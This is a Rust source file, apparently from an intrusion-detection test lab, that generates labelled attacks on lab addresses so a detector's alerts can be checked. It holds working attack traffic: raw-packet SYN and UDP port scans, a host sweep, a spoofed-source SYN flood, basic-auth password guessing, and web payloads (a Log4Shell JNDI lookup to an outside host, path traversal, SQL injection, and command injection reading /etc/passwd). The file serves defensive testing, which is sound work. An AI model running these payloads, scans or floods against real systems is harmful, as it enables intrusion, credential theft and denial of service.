//! The attacks that are planted, each from a source and at a target of its own, so that an alert tells which one it is about.

use std::{
    net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream},
    sync::{
        Mutex, PoisonError,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use rustix::net::{
    AddressFamily, SocketFlags, SocketType, bind, connect, socket_with,
    sockopt::{Timeout, set_socket_timeout},
};

use super::{
    packet::{Raw, datagram, syn},
    traffic::{WEB, ask},
};
use crate::lab::rng::Rng;

const STEP: Duration = Duration::from_millis(10);
const AGAIN: Duration = Duration::from_millis(100);
/// Sources of floods, none of them twice.
const SPOOFED: u8 = 44;

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Kind {
    SynScan,
    UdpScan,
    Sweep,
    Exploit,
    Guessing,
    Flood,
}

impl Kind {
    const PLANTED: [Self; 5] = [Self::SynScan, Self::UdpScan, Self::Sweep, Self::Exploit, Self::Guessing];
    pub(crate) const ALL: [Self; 6] =
        [Self::SynScan, Self::UdpScan, Self::Sweep, Self::Exploit, Self::Guessing, Self::Flood];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::SynScan => "SYN scan",
            Self::UdpScan => "UDP scan",
            Self::Sweep => "sweep",
            Self::Exploit => "web attack",
            Self::Guessing => "password guessing",
            Self::Flood => "SYN flood",
        }
    }
}

/// An attack that took place.
#[derive(Clone, Debug)]
pub(crate) struct Attack {
    pub(crate) kind: Kind,
    /// Whom an alert must name: the source, or the target where sources are made up.
    pub(crate) named: Ipv4Addr,
    pub(crate) began: Instant,
    pub(crate) ended: Instant,
}

/// All that took place, and the packets that were made for them.
#[derive(Debug, Default)]
pub(crate) struct Attacks {
    done: Mutex<Vec<Attack>>,
    pub(crate) packets: AtomicU64,
}

impl Attacks {
    pub(crate) fn done(&self) -> Vec<Attack> {
        self.done.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    fn add(&self, kind: Kind, named: Ipv4Addr, began: Instant) {
        let attack = Attack { kind, named, began, ended: Instant::now() };
        self.done.lock().unwrap_or_else(PoisonError::into_inner).push(attack);
    }

    /// Plants one after the other until `stop`, in an order of the seed's; on a thread outside.
    pub(crate) fn plant(&self, mut rng: Rng, apart_ms: (u64, u64), stop: &AtomicBool) -> Result<()> {
        let (mut number, mut kinds) = (0_u16, Vec::new());
        let mut due = Instant::now();
        while !wait_until(due, stop) {
            due = Instant::now() + Duration::from_millis(rng.range(apart_ms.0, apart_ms.1));
            if kinds.is_empty() {
                kinds = rng.shuffled(&Kind::PLANTED);
            }
            let Some(kind) = kinds.pop() else { continue };
            number += 1;
            let [high, low] = number.to_be_bytes();
            let source = Ipv4Addr::new(45, 33, high, low);
            let began = Instant::now();
            if self.attack(kind, source, [high, low], stop)? {
                self.add(kind, source, began);
            }
        }
        Ok(())
    }

    /// One attack, every step of which takes place; false where it was broken off.
    fn attack(&self, kind: Kind, source: Ipv4Addr, [high, low]: [u8; 2], stop: &AtomicBool) -> Result<bool> {
        let victim = Ipv4Addr::new(10, 84, high.wrapping_mul(250).wrapping_add(low), 7);
        let [a, b, c, _] = victim.octets();
        let from = |port| SocketAddrV4::new(source, port);
        let packets: Vec<(Ipv4Addr, Vec<u8>)> = match kind {
            Kind::SynScan => (0..60_u16)
                .map(|port| (victim, syn(from(50_000), SocketAddrV4::new(victim, 1_000 + 7 * port), u32::from(port))))
                .collect(),
            Kind::UdpScan => (0..60_u16)
                .map(|port| (victim, datagram(from(50_001), SocketAddrV4::new(victim, 1_000 + 7 * port), b"\r\n\r\n")))
                .collect(),
            Kind::Sweep => (1..=60_u8)
                .map(|host| {
                    let target = Ipv4Addr::new(a, b, c, host);
                    (target, syn(from(50_002), SocketAddrV4::new(target, 445), u32::from(host)))
                })
                .collect(),
            Kind::Exploit => return Ok(visit_all(source, victim, &EXPLOITS, "", stop)),
            Kind::Guessing => {
                let paths: Vec<String> = (0..30).map(|turn| format!("/login?turn={turn}")).collect();
                let paths: Vec<&str> = paths.iter().map(String::as_str).collect();
                return Ok(visit_all(source, victim, &paths, "Authorization: Basic YWRtaW46aHVudGVyMg==\r\n", stop));
            }
            Kind::Flood => return Ok(false),
        };
        let raw = Raw::open()?;
        Ok(packets.iter().all(|(target, packet)| {
            thread::sleep(STEP);
            let sent = insist(stop, || raw.send(*target, packet).then_some(()));
            self.packets.fetch_add(u64::from(sent.is_some()), Ordering::Relaxed);
            sent.is_some()
        }))
    }

    /// A flood of SYNs from sources of which none comes twice, for so long; on a thread outside.
    pub(crate) fn flood(&self, number: u8, per_sec: u32, lasts: Duration, stop: &AtomicBool) -> Result<()> {
        let victim = Ipv4Addr::new(10, 84, 255, number);
        let raw = Raw::open()?;
        let (began, mut sent) = (Instant::now(), 0_u32);
        while began.elapsed() < lasts && !stop.load(Ordering::Relaxed) {
            // What is due by now, and no more than a queue of the interface holds.
            let due = u32::try_from(u64::from(per_sec) * u64::try_from(began.elapsed().as_millis())? / 1_000)?;
            let behind = due.saturating_sub(sent).min(100);
            for _ in 0..behind {
                sent += 1;
                // A bijection that looks like chance.
                let [x, y, z, w] = (sent.wrapping_mul(0x9e37_79b1) ^ u32::from(number)).to_be_bytes();
                let source = SocketAddrV4::new(Ipv4Addr::new(SPOOFED, x, y, z), 1_024 + u16::from(w) * 200);
                let took = raw.send(victim, &syn(source, SocketAddrV4::new(victim, 443), sent));
                self.packets.fetch_add(u64::from(took), Ordering::Relaxed);
            }
            thread::sleep(Duration::from_millis(if behind == 100 { 1 } else { 5 }));
        }
        self.add(Kind::Flood, victim, began);
        Ok(())
    }
}

/// Requests that no visitor makes.
const EXPLOITS: [&str; 5] = [
    "/?x=${jndi:ldap://45.33.200.1:1389/a}",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
    "/view?file=../../../../../../etc/passwd",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
];

/// Asks for every one of the pages from this source; false where that was broken off.
fn visit_all(source: Ipv4Addr, target: Ipv4Addr, paths: &[&str], more: &str, stop: &AtomicBool) -> bool {
    paths.iter().all(|path| {
        thread::sleep(STEP);
        insist(stop, || ask(connected(source, target).ok()?, path, more).ok()).is_some()
    })
}

fn connected(source: Ipv4Addr, target: Ipv4Addr) -> Result<TcpStream> {
    let socket =
        socket_with(AddressFamily::INET, SocketType::STREAM, SocketFlags::CLOEXEC, None).context("a socket")?;
    set_socket_timeout(&socket, Timeout::Send, Some(Duration::from_secs(3))).context("a socket")?;
    bind(&socket, &SocketAddr::V4(SocketAddrV4::new(source, 0))).context("an address of a stranger")?;
    connect(&socket, &SocketAddr::V4(SocketAddrV4::new(target, WEB))).context("no connection")?;
    Ok(TcpStream::from(socket))
}

/// Tries until it comes to something: while the interface is away nothing does.
fn insist<T>(stop: &AtomicBool, mut attempt: impl FnMut() -> Option<T>) -> Option<T> {
    loop {
        if let Some(done) = attempt() {
            return Some(done);
        }
        if wait_until(Instant::now() + AGAIN, stop) {
            return None;
        }
    }
}

/// Sleeps until then; true where it is asked to stop before.
fn wait_until(due: Instant, stop: &AtomicBool) -> bool {
    while Instant::now() < due {
        if stop.load(Ordering::Relaxed) {
            return true;
        }
        thread::sleep(due.saturating_duration_since(Instant::now()).min(AGAIN));
    }
    stop.load(Ordering::Relaxed)
}
